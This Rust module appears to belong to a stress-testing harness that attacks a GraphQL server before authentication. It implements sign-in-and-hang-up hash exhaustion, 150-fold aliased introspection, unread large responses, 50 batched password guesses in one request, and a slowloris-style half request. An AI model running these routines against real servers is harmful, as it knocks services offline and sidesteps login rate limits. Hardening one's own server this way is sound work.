//! Without an account: everything that costs before anybody is asked who they are.

use std::net::SocketAddr;
use std::time::Duration;

use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{sleep, timeout};
use tokio_util::sync::CancellationToken;

use super::{Attack, Kind, Options, dial, repeat};

/// Callers at once of each attack.
const GUESSERS: u8 = 24;
const READERS: usize = 100;
const INTROSPECTORS: u8 = 32;

/// The addresses of the others, behind those of the first two kinds.
const READER: u8 = 201;
const GUESSER: u8 = 202;
const HALF: u8 = 203;

/// How long an answer is not read.
const UNREAD: Duration = Duration::from_secs(60);

pub(super) fn attacks(
    address: SocketAddr,
    options: &Options,
    stop: &CancellationToken,
) -> Vec<Attack> {
    let mut attacks = Vec::new();
    if options.wants(Kind::Leave) {
        attacks.extend((0..GUESSERS).map(|guesser| {
            repeat("sign in and hang up", stop, move |turn| {
                hang_up(address, guesser, turn)
            })
        }));
    }
    if options.wants(Kind::Introspection) {
        attacks.extend((0..INTROSPECTORS).map(|asker| {
            repeat("aliased introspection", stop, move |_| {
                introspect(address, GUESSERS + asker)
            })
        }));
    }
    if options.wants(Kind::Unread) {
        attacks.push(repeat("never read the answer", stop, move |_| {
            unread(address)
        }));
    }
    if options.wants(Kind::Guesses) {
        attacks.push(repeat("many guesses in one document", stop, move |_| {
            guess_often(address)
        }));
    }
    if options.wants(Kind::Half) {
        attacks.push(repeat("half a request", stop, move |_| half(address)));
    }
    attacks
}

/// Asks for a password's hash and does not wait for it.
async fn hang_up(address: SocketAddr, guesser: u8, turn: u64) -> anyhow::Result<String> {
    let mut stream = dial(guesser, address).await?;
    let query = format!(
        "mutation {{ signIn(input: {{ email: \"{guesser}-{turn}@example.org\", \
         password: \"correct horse battery\" }}) {{ token }} }}"
    );
    stream.write_all(&post(&query)).await?;
    sleep(Duration::from_millis(5)).await;
    Ok("hung up".to_owned())
}

async fn guess_often(address: SocketAddr) -> anyhow::Result<String> {
    let guess =
        "signIn(input: { email: \"bench@example.org\", password: \"guess number one\" }) { token }";
    let fields: Vec<String> = (0..50).map(|n| format!("a{n}: {guess}")).collect();
    answer(
        GUESSER,
        address,
        &format!("mutation {{ {} }}", fields.join(" ")),
    )
    .await
}

async fn introspect(address: SocketAddr, asker: u8) -> anyhow::Result<String> {
    let field = "__schema { types { name description fields { name description args { name } } } }";
    let fields: Vec<String> = (0..150).map(|n| format!("a{n}: {field}")).collect();
    answer(asker, address, &format!("{{ {} }}", fields.join(" "))).await
}

/// Many connections that ask for a large answer and never read it.
async fn unread(address: SocketAddr) -> anyhow::Result<String> {
    let field = "__schema { types { name description fields { name description type { name } \
        args { name description } } inputFields { name description } enumValues { name } } }";
    let fields: Vec<String> = (0..40).map(|n| format!("a{n}: {field}")).collect();
    let query = format!("{{ {} }}", fields.join(" "));
    let mut streams = Vec::new();
    for _ in 0..READERS {
        let mut stream = dial(READER, address).await?;
        stream.write_all(&post(&query)).await?;
        streams.push(stream);
    }
    sleep(UNREAD).await;
    Ok(format!("{} connections were not read", streams.len()))
}

/// A request whose body never comes.
async fn half(address: SocketAddr) -> anyhow::Result<String> {
    let mut stream = dial(HALF, address).await?;
    let head = "POST /graphql HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{";
    stream.write_all(head.as_bytes()).await?;
    let mut rest = Vec::new();
    let _ = timeout(UNREAD, stream.read_to_end(&mut rest)).await;
    Ok(String::from_utf8_lossy(&rest).into_owned())
}

async fn answer(from: u8, address: SocketAddr, query: &str) -> anyhow::Result<String> {
    let mut stream = dial(from, address).await?;
    stream.write_all(&post(query)).await?;
    let mut text = Vec::new();
    let mut beginning = stream.take(256);
    timeout(UNREAD, beginning.read_to_end(&mut text)).await??;
    Ok(String::from_utf8_lossy(&text).replace("\r\n", " "))
}

fn post(query: &str) -> Vec<u8> {
    let body = json!({ "query": query }).to_string();
    format!(
        "POST /graphql HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}
